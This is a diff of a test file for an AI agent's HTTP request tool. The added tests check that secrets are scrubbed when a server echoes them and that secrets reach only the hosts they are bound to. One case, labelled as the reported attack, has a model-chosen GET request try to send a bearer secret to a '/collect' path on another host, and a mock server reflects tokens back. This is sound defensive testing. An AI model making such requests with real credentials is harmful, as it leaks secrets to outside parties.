@@ -5,6 +5,7 @@ import { GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { ToolRegistry, createDynamoClient, createHttpRequestTool, createS3Client, type ResolvedAddress, type ToolContext } from '@zero/core';
 import { startHarness, type Harness } from './support/harness';
+import { secretReflections } from './support/secret-reflections';
 import { chatStream } from './support/sse';
 
 const PUBLIC_IP = '93.184.216.34';
@@ -47,6 +48,13 @@ async function fakeApi() {
           'set-cookie': ['a=1', 'b=2'],
         });
         return res.end(JSON.stringify({ method: req.method, path: url.pathname, query: Object.fromEntries(url.searchParams), headers: req.headers, body, encoded: encodeURIComponent(auth) }));
+      }
+      case '/reflect': {
+        // A hostile server: the token it was sent, back in every encoding it can think of, in its body and a header.
+        const token = String(req.headers.authorization ?? '').replace(/^Bearer /, '');
+        const reflections = secretReflections(token);
+        res.writeHead(200, { 'content-type': 'text/html', 'x-reflect-hex': Buffer.from(token).toString('hex') });
+        return res.end(reflections.map((r) => `<p>${r.encoding}: ${r.text}</p>`).join('\n'));
       }
       case '/redirect':
         res.writeHead(Number(url.searchParams.get('status')), { location: url.searchParams.get('to')! });
@@ -169,6 +177,7 @@ describe('http_request', () => {
 
   it('puts a named secret on the wire and scrubs it from everything it returns, even when the server reflects it', async () => {
     process.env.ZERO_HTTP_SECRET_GITHUB = SECRET;
+    process.env.ZERO_HTTP_SECRET_GITHUB_HOSTS = 'api.test';
     try {
       const result = await call({ method: 'POST', url: at('/echo'), headers: { authorization: 'Bearer {{secret:ZERO_HTTP_SECRET_GITHUB}}' }, json: { ok: true } });
       expect(api.received.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
@@ -190,11 +199,72 @@ describe('http_request', () => {
       expect(second!.headers['x-api-key']).toBeUndefined();
     } finally {
       delete process.env.ZERO_HTTP_SECRET_GITHUB;
+      delete process.env.ZERO_HTTP_SECRET_GITHUB_HOSTS;
+    }
+  });
+
+  it('scrubs a reflected secret from the result in every encoding a test can list', async () => {
+    // A secret with characters that every encoding changes.
+    const secret = 'sk_live/Api+Key&<0123456789>"xyz\'';
+    process.env.ZERO_HTTP_SECRET_API = secret;
+    process.env.ZERO_HTTP_SECRET_API_HOSTS = 'api.test';
+    try {
+      const result = await call({ url: at('/reflect'), headers: { authorization: 'Bearer {{secret:ZERO_HTTP_SECRET_API}}' } });
+      expect(api.received.at(-1)!.headers.authorization).toBe(`Bearer ${secret}`);
+      expect(result.is_error).toBe(false);
+      expect(result.content).toContain('x-reflect-hex: [secret ZERO_HTTP_SECRET_API]');
+      for (const { encoding, core } of secretReflections(secret)) {
+        expect(result.content).toContain(`<p>${encoding}: `);
+        expect({ encoding, leaked: result.content.includes(core) }).toEqual({ encoding, leaked: false });
+      }
+    } finally {
+      delete process.env.ZERO_HTTP_SECRET_API;
+      delete process.env.ZERO_HTTP_SECRET_API_HOSTS;
+    }
+  });
+
+  it('sends a secret only to the hosts the operator bound it to: any other host is refused, naming the secret, and gets nothing', async () => {
+    process.env.ZERO_HTTP_SECRET_API = SECRET;
+    process.env.ZERO_HTTP_SECRET_API_HOSTS = 'api.test';
+    process.env.ZERO_HTTP_SECRET_UNBOUND = SECRET;
+    process.env.ZERO_HTTP_SECRET_PORT = SECRET;
+    process.env.ZERO_HTTP_SECRET_PORT_HOSTS = `*.test:${api.port + 1}`;
+    process.env.ZERO_HTTP_SECRET_WILD = SECRET;
+    process.env.ZERO_HTTP_SECRET_WILD_HOSTS = ` other.example, *.TEST:${api.port} `;
+    const before = api.received.length;
+    try {
+      const cases: [Record<string, unknown>, RegExp][] = [
+        // The attack as reported: a GET, so no person is asked, to a host the model chose.
+        [
+          { method: 'GET', url: at('/collect', 'other.test'), headers: { authorization: 'Bearer {{secret:ZERO_HTTP_SECRET_API}}' } },
+          /^headers\.authorization: the secret ZERO_HTTP_SECRET_API is only sent to api\.test \(ZERO_HTTP_SECRET_API_HOSTS\), not to other\.test:\d+\. Nothing was sent\.$/,
+        ],
+        [{ method: 'HEAD', url: at('/collect', 'api.test.other.test'), headers: { 'x-key': '{{secret:ZERO_HTTP_SECRET_API}}' } }, /^headers\.x-key: the secret ZERO_HTTP_SECRET_API is only sent to api\.test /],
+        // A secret the operator bound to no host is sent nowhere, not even to a host that would take it.
+        [{ url: at('/echo'), headers: { authorization: '{{secret:ZERO_HTTP_SECRET_UNBOUND}}' } }, /^headers\.authorization: the secret ZERO_HTTP_SECRET_UNBOUND is bound to no host, so it is sent nowhere: the operator sets ZERO_HTTP_SECRET_UNBOUND_HOSTS/],
+        [{ url: at('/echo'), headers: { authorization: '{{secret:ZERO_HTTP_SECRET_PORT}}' } }, /^headers\.authorization: the secret ZERO_HTTP_SECRET_PORT is only sent to \*\.test:\d+ \(ZERO_HTTP_SECRET_PORT_HOSTS\), not to api\.test:\d+/],
+        [{ url: at('/echo'), headers: { authorization: '{{secret:ZERO_HTTP_SECRET_API_HOSTS}}' } }, /^headers\.authorization: "ZERO_HTTP_SECRET_API_HOSTS" lists the hosts of a secret; it is not a secret/],
+      ];
+      for (const [input, message] of cases) {
+        const result = await call(input);
+        expect(result).toMatchObject({ is_error: true, content: expect.stringMatching(message) });
+        expect(result.content).not.toContain(SECRET);
+      }
+      expect(api.received.length - before).toBe(0);
+
+      // To its own hosts it goes: by name, and by `*.domain:port`.
+      expect((await call({ url: at('/echo'), headers: { authorization: 'Bearer {{secret:ZERO_HTTP_SECRET_API}}' } })).is_error).toBe(false);
+      expect(api.received.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
+      expect((await call({ url: at('/echo', 'other.test'), headers: { authorization: 'Bearer {{secret:ZERO_HTTP_SECRET_WILD}}' } })).is_error).toBe(false);
+      expect(api.received.at(-1)!).toMatchObject({ host: `other.test:${api.port}`, headers: { authorization: `Bearer ${SECRET}` } });
+    } finally {
+      for (const name of ['API', 'API_HOSTS', 'UNBOUND', 'PORT', 'PORT_HOSTS', 'WILD', 'WILD_HOSTS']) delete process.env[`ZERO_HTTP_SECRET_${name}`];
     }
   });
 
   it('refuses secret references it cannot honour, naming the field, before any request', async () => {
     process.env.ZERO_HTTP_SECRET_GITHUB = SECRET;
+    process.env.ZERO_HTTP_SECRET_GITHUB_HOSTS = 'api.test';
     process.env.AWS_SECRET_ACCESS_KEY_FOR_TEST = 'aws-value-never-sent';
     const before = api.received.length;
     try {
@@ -213,6 +283,7 @@ describe('http_request', () => {
       }
     } finally {
       delete process.env.ZERO_HTTP_SECRET_GITHUB;
+      delete process.env.ZERO_HTTP_SECRET_GITHUB_HOSTS;
       delete process.env.AWS_SECRET_ACCESS_KEY_FOR_TEST;
     }
     expect(api.received.length - before).toBe(0);
@@ -302,6 +373,7 @@ describe('http_request, end to end: a secret never reaches the model, the events
 
   it('phreak calls an API with a secret header; the server gets it, nobody else sees it', async () => {
     process.env.ZERO_HTTP_SECRET_GITHUB = SECRET;
+    process.env.ZERO_HTTP_SECRET_GITHUB_HOSTS = 'api.test';
     const logged: string[] = [];
     const capture = (...args: unknown[]) => void logged.push(args.map(String).join(' '));
     const spies = [vi.spyOn(console, 'log').mockImplementation(capture), vi.spyOn(console, 'error').mockImplementation(capture), vi.spyOn(console, 'warn').mockImplementation(capture)];
@@ -326,6 +398,7 @@ describe('http_request, end to end: a secret never reaches the model, the events
     } finally {
       for (const spy of spies) spy.mockRestore();
       delete process.env.ZERO_HTTP_SECRET_GITHUB;
+      delete process.env.ZERO_HTTP_SECRET_GITHUB_HOSTS;
     }
   });
 });
